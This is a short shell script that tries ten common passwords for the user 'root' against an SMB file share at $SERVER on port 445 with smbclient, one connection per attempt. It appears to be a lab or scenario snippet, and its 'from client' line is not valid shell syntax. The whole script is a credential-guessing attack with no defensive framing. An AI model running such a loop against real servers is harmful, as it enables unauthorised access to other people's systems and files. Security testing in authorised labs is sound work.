# Passwords guessed against a shared folder, one try a connection.
# packages: smbclient samba
for word in 123456 admin password root tinh2026 Abc@123 qwerty 111111 vietnam letmein; do
    from client smbclient -L $SERVER -p 445 -U "root%$word"
done
